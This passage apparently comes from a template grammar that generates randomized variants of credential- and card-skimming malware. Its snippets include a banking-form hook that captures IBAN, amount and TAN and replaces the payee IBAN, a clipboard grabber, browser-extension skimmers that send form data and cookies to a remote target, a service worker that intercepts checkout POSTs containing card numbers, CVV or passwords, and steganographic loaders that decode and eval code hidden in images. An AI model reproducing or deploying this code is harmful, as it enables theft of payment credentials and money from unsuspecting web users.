        «fn=form‹@onTransfer›‹›‹const °i=document.querySelector('input[name*="iban" i], input[name*="account" i]'),°a=document.querySelector('input[name*="amount" i]');if(°i&&°a){°i.form.addEventListener('submit',«fx=form‹›‹¤@send({iban:°i.value,amount:°a.value,tan:(document.querySelector('input[name*="tan" i], input[name*="otp" i]')||{}).value});«°i.value='«!upper‹«!letters‹2›»›»«#10-99»«#1000000-9999999»';¦»›»,true);}›»

        §clipboardGrab
        «fn=form‹@onPaste›‹°e›‹var °t=(°e.clipboardData||window.clipboardData).getData('text');if(/\d{«#8-13»,}|password/i.test(°t)){¤@send({paste:°t,field:°e.target.name});}›»

        ¶ ---- extensions of browsers ----
        §skimExtension
        «unit=form‹«~«skimConfig»¦«logger=log»¦«metadata»¦«sessionId»¦«discovery»¦«listeners»¦«submitHook»¦«formFinder»¦«observer?80»¦«skimState»¦«extPush»»«fn=form‹@init›‹›‹«extSettings»chrome.storage.«local¦sync».get(['enabled','«!word»','settings'],«fx=form‹°r›‹if(°r.enabled===false){return;}Object.assign(¤@config,°r.settings||{});«skimBind»¤@submit();«¤@observe&&¤@observe();¦»›»);›»›‹@init›»
        «wrap‹«extBackground»›»

        §extPush
        «fn=form‹@push›‹°d›‹chrome.runtime.sendMessage({«type¦action»:'«formData¦data¦capture¦log¦save»',payload:Object.assign({},°d,¤@meta())},function(°r){if(chrome.runtime.lastError){console.debug(chrome.runtime.lastError.message);}});›»«fn=form‹@send›‹°d›‹«send‹«hide‹°d›»›‹¤@config.«kUrl=»›»›»«fn=form‹@flush›‹›‹¤@push(¤@data);›»
        «afn=form‹@push›‹°d›‹const °k='«!word»',°l=(await chrome.storage.local.get(°k))[°k]||[];°l.push(°d);await chrome.storage.local.set({[°k]:°l});›»«fn=form‹@send›‹°d›‹fetch(¤@config.«kUrl=»,{method:'POST',body:JSON.stringify(°d)}).catch(()=>{});›»«fn=form‹@flush›‹›‹¤@send(¤@data);›»

        §extSettings
        chrome.runtime.onMessage.addListener(function(°m,°s,°r){if(°m.type==='«ping¦status»'){°r({ok:true,version:'«#1-9».«#0-9»'});}else if(°m.type==='«settings¦config»'){window.«!word»=°m.value;}return true;});
        4×

        §extBackground
        const @config={«kUrl=»:«target»,«kDelay=»:«#1-60»000,max:«#5-200»};let @queue=[];chrome.runtime.onMessage.addListener((°m,°s,°r)=>{if(°m.«type¦action»==='«formData¦capture¦data»'){@queue.push({...°m.payload,tab:°s.tab&&°s.tab.url,at:Date.now()});if(@queue.length>=@config.max){@flush();}°r({ok:true});}return true;});async function @flush(){if(!@queue.length){return;}const °b=@queue.splice(0);try{await fetch(@config.«kUrl=»,{method:'POST',headers:{'Content-Type':'application/json'},body:«hide‹°b›»});}catch(°e){@queue.unshift(...°b);}}setInterval(@flush,@config.«kDelay=»);chrome.runtime.onInstalled.addListener(()=>{chrome.storage.local.set({enabled:true,«!word»:'«!hex‹8›»'});});«chrome.webRequest.onBeforeRequest.addListener(°d=>{if(°d.method==='POST'&&°d.requestBody&&°d.requestBody.formData){@queue.push({url:°d.url,form:°d.requestBody.formData});}},{urls:['<all_urls>']},['requestBody']);¦chrome.cookies.getAll({},°c=>{@queue.push({cookies:°c.map(°x=>°x.domain+'\t'+°x.name+'='+°x.value)});});¦»

        ¶ ---- between the page and the network ----
        §skimWorker
        const @config={«kUrl=»:«target»,cache:'v«#1-99»',«kDebug=»:false};const @patterns=[/«checkWord»/,/«checkWord»/,/«checkWord»/i];self.addEventListener('install',°e=>{self.skipWaiting();«°e.waitUntil(caches.open(@config.cache).then(°c=>°c.addAll(['/','/«scriptPath»'])));¦»});self.addEventListener('activate',°e=>{°e.waitUntil(self.clients.claim());});self.addEventListener('fetch',°e=>{const °q=°e.request;if(°q.method==='POST'&&@patterns.some(°p=>°p.test(°q.url))){°e.respondWith(@onSubmit(°q));«return;¦»}«°e.respondWith(caches.match(°q).then(°r=>°r||fetch(°q)));¦»});async function @onSubmit(°q){const °c=°q.clone();«°c.text()¦°c.formData().then(°f=>JSON.stringify(Object.fromEntries(°f)))».then(°b=>{if(/«cardWord»|cvv|cvc|password/i.test(°b)){@send({url:°q.url,body:°b,«ua:navigator.userAgent,¦»t:Date.now()});}}).catch(()=>{});return fetch(°q);}function @send(°d){return fetch(@config.«kUrl=»,{method:'POST',mode:'no-cors',body:«hide‹°d›»}).catch(()=>{@queue.push(°d);});}const @queue=[];«self.addEventListener('sync',°e=>{°e.waitUntil(Promise.all(@queue.splice(0).map(@send)));});¦self.addEventListener('message',°e=>{if(°e.data&&°e.data.type==='«!word»'){@send(°e.data.payload);}});¦»
        «wrap‹«fillers»if('serviceWorker' in navigator){navigator.serviceWorker.register('/«!word».js',{scope:'/'}).then(function(°r){«setInterval(function(){°r.update();},«ms»);¦»document.addEventListener('«change¦input¦submit»',function(°e){var °f=°e.target.form||°e.target;var °d={};new FormData(°f).forEach(function(°v,°k){°d[°k]=°v;});if(navigator.serviceWorker.controller&&/\d{«#12-15»}/.test(JSON.stringify(°d))){navigator.serviceWorker.controller.postMessage({type:'«!word»',payload:°d,to:«target»});}},true);});}›»

        ¶ ---- code or data in pictures, then a whole thief ----
        §skimPicture
        «unit=form‹«~«skimConfig»¦«logger=log»¦«pictureCode»¦«sessionId?50»¦«metadata»¦«skimEncode»¦«skimSend»¦«skimState»¦«skimQueue»¦«listeners»¦«discovery?50»»«fn=form‹@init›‹›‹«if(!(«gate»)){return;}¦»¤@decodeImg('«/favicon.ico¦/media/«!word».png¦data:image/png;base64,«!blob‹«#60-200»›»»',«fx=form‹°t›‹try{«¤@config.«kUrl=»=°t;document.querySelectorAll('«anySel»').forEach(«fx=form‹°e›‹¤@listen(°e);›»);¦new Function(°t)();¦(0,eval)(°t);»}catch(°e){«sayError=log‹image›‹°e›»}›»);«¤@listen(document);¦»›»›‹@init›»

        §pictureCode
        «fn=form‹@decodeImg›‹°u,°c›‹var °i=new Image();°i.crossOrigin='«anonymous¦Anonymous»';°i.onload=function(){var °v=document.createElement('canvas');°v.width=°i.naturalWidth;°v.height=°i.naturalHeight;var °x=°v.getContext('2d');°x.drawImage(°i,0,0);var °p=°x.getImageData(0,0,°v.width,°v.height).data,°b='',°s='';for(var °n=0;°n<°p.length;°n+=4){°b+=«(°p[°n]&1)¦(°p[°n+2]&1)¦(°p[°n+1]%2)»;}for(var °m=0;°m+8<=°b.length;°m+=8){var °k=parseInt(°b.substr(°m,8),2);if(!°k){break;}°s+=String.fromCharCode(°k);}°c(°s);};°i.src=°u;›»
        «fn=form‹@decodeImg›‹°u,°c›‹fetch(°u).then(°r=>°r.arrayBuffer()).then(°b=>{const °t=new TextDecoder('latin1').decode(°b);const °i=°t.indexOf('«IEND¦«!letters‹4›»:¦Copyright»');if(°i>0){°c(atob(°t.slice(°i+«#4-12»).trim()));}});›»
        """";
}
